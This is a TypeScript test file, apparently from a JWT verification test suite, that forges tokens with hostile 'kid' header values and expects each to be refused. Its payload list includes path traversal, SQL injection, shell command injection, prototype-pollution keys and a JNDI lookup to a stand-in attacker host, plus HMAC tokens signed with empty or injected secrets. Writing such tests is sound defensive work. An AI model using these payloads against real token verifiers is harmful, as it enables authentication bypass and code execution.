import { type Cast, forge, hmacSigner } from '../forger.ts'
import { attack, say, type TokenCase } from '../shape.ts'

const NAMES = [
  '../../../dev/null',
  '/dev/null',
  'file:///dev/null',
  "x' UNION SELECT 'AA';--",
  '|sleep 9',
  '$(id)',
  '$' + '{jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'toString',
  '0',
  '*',
  '\0',
  '',
]
const NOT_A_NAME = [null, 7, ['genuine-es256'], { kid: 'genuine-es256' }, 'k'.repeat(129)]

/** The name of a key leads somewhere else, such as to a file whose content is known. */
export function keyId({ genuine: { ES256 }, secret }: Cast): TokenCase[] {
  const { refused } = attack('JA-6')
  const action = attack('JA-6', 'action token')
  const nothing = hmacSigner('')
  const known = hmacSigner('AA')
  return [
    ...NAMES.map((kid) =>
      refused('unknown_key', `kid ${say(kid)}`, forge('access token', ES256, { header: { kid } })),
    ),
    ...['/dev/null', '__proto__', '', '\0'].map((kid) =>
      action.refused(
        'unknown_key',
        `kid ${say(kid)}, the secret is empty`,
        forge('action token', { ...nothing, kid }),
      ),
    ),
    action.refused(
      'unknown_key',
      'kid is SQL that gives the secret',
      forge('action token', { ...known, kid: "x' UNION SELECT 'AA';--" }),
    ),
    ...NOT_A_NAME.map((kid) =>
      refused(
        'malformed',
        `kid is ${typeof kid === 'string' ? 'of 129 characters' : say(kid)}`,
        forge('access token', ES256, { header: { kid } }),
      ),
    ),
    refused(
      'unknown_key',
      'kid in other case',
      forge('access token', ES256, { header: { kid: ES256.kid.toUpperCase() } }),
    ),
    refused(
      'unknown_key',
      'kid with a space behind it',
      forge('access token', ES256, { header: { kid: `${ES256.kid} ` } }),
    ),
    refused(
      'unknown_key',
      'kid of the secret',
      forge('access token', ES256, { header: { kid: secret.kid } }),
    ),
  ]
}
